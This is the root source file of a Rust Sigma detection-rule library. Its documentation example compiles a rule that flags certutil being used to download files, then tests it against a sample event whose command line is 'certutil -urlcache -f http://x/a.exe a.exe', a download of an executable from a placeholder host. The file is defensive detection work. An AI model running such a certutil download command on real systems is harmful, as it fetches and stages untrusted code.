//! Sigma rules: parsing, routing to concrete log sources, and compiling a whole rule set
//! into one matcher indexed by source and event id.
//!
//! ```
//! use watchpost_sigma::{RuleSet, FlatEvent};
//! let rule = r#"
//! title: Certutil download
//! id: 11111111-2222-3333-4444-555555555555
//! level: high
//! logsource: {product: windows, category: process_creation}
//! detection:
//!   selection:
//!     Image|endswith: '\certutil.exe'
//!     CommandLine|contains|all: ['urlcache', 'http']
//!   condition: selection
//! "#;
//! let mut set = RuleSet::default();
//! set.add_yaml(rule, "certutil.yml").unwrap();
//! let set = set.compile();
//! let mut event = FlatEvent::windows("Microsoft-Windows-Sysmon/Operational", 1);
//! event.push("Image", r"C:\Windows\System32\certutil.exe");
//! event.push("CommandLine", "certutil -urlcache -f http://x/a.exe a.exe");
//! assert_eq!(set.matches(&event).len(), 1);
//! ```

mod builtin;
mod condition;
mod correlation;
mod detection;
mod engine;
mod event;
mod filter;
mod logsource;
mod prefilter;
mod rule;
mod value;

pub use builtin::BUILTIN_RULES;
pub use correlation::{CorrelationHit, CorrelationInput, CorrelationState, MAX_GROUPS};
pub use engine::{CompiledRuleSet, RuleMatch, RuleSet};
pub use event::FlatEvent;
pub use logsource::sources;
pub use rule::{Level, LogSource, Rule, RuleError};
pub use value::Placeholders;
